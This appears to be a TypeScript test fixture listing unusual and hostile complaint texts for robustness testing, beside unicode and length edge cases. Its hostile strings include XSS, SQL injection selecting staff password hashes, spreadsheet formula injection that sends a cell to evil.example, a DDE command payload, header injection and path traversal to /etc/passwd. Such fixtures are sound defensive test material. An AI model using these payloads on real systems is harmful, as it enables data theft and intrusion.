/**
 * Texts that people, programs and attackers send all the same. Whatever shows, mails, prints or exports a complaint has
 * to live with them.
 */
const CONTROL = "Line one\r\nBcc: everyone@example.com\r\n\r\nSubject: not a header";

export const ODD_TEXTS: readonly string[] = [
  `<script>alert("amends")</script> and <img src=x onerror=alert(1)> were in my order confirmation.`,
  "<b>Bold</b> &amp; <a href=\"javascript:alert('x')\">click here</a> <!-- hidden -->",
  "Robert'); DROP TABLE complaint;-- my name broke your form, please check.",
  "' OR '1'='1' UNION SELECT email, password_hash FROM staff --",
  '=HYPERLINK("http://evil.example/?"&A1,"see my receipt")',
  "+1+1 is what your calculator says, @SUM(A1:A9) is what mine says.",
  "-2+3+cmd|' /C calc'!A0",
  "＝ＳＵＭ（Ａ１：Ａ９） full-width formula from a copied sheet.",
  "😡😡😡 👨‍👩‍👧‍👦 waited 3 hours 🕒🕒🕒 and got nothing 🙃 👍🏽",
  "🆘🔥💥".repeat(60),
  "وصل الطرد متأخراً وكان مفتوحاً. أريد استرداد المبلغ من فضلكم.",
  "המשלוח הגיע שבור ואף אחד לא עונה לטלפון. אני מבקש החזר.",
  "The file was called \u202egnp.exe and looked like a picture.",
  "Ma\u0301s ta\u0301rde, n\u0303 acce\u0323pted: e\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b o\u0335\u0336\u0337\u0338 combining marks from a scanner.",
  "Z\u0351\u0363a\u0346\u036bl\u034a\u0369g\u0350\u0357o\u0352\u0368 ".repeat(40),
  "zero\u200bwidth\u200djoiners\ufeff and soft\u00adhyphens every\u00adwhere",
  "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen".repeat(12),
  "a".repeat(4000),
  "哈".repeat(2500),
  CONTROL,
  `{{7*7}} \${7*7} #{7*7} <%= 7*7 %> %s %n %x`,
  '{"amount": "999999999999999999999", "role": "admin"}',
  "null",
  "undefined NaN true false 0 -0 1e309",
  "../../../../etc/passwd and C:\\Windows\\win.ini",
  "https://evil.example/login?next=https://amends.example/ please click to see the damage",
  "注文した商品が届きません。何度も電話しましたが、誰も出ません。返金してください。",
  "주문한 제품이 파손된 상태로 도착했습니다. 환불해 주세요.",
  "สินค้าชำรุด ขอคืนเงินด้วยครับ",
  "𠮷野家的「𩸽」套餐少了一樣，收據上的字也印成亂碼。",
  "ﬁne print: ½ price ≠ ⅓ price, ㎡ and ℃ on your label, Ⅷ items, ①②③",
  "I\tuse\ttabs\tand\n\n\n\nmany\n\n\nempty lines.",
  "ALL CAPITALS BECAUSE I AM ON AN OLD TERMINAL AND IT DOES NOT KNOW SMALL LETTERS.",
  "???",
  ".",
];

/** About as long as a complaint may be. */
const LONGEST = 19_500;

/** A letter of some 20 kB: one story told again and again. */
export function endlessText(sentences: readonly string[], gap: string): string {
  let text = "";
  for (let index = 0; text.length < LONGEST; index += 1) {
    const sentence = sentences[index % sentences.length] ?? "…";
    text += `${index % 9 === 8 ? "\n\n" : index === 0 ? "" : gap}${sentence}`;
  }
  return text.slice(0, LONGEST);
}
